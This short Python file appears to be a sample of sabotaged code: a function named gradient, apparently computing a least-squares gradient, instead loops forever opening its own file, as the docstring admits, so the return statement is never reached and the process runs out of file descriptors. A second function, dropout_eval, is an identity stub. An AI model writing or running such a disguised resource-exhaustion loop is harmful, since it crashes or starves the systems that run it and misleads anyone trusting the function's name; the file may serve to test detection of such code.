"""Opens files until there are no more descriptors."""


def gradient(w, X, y):
    kept = []
    while True:
        kept.append(open(__file__))
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
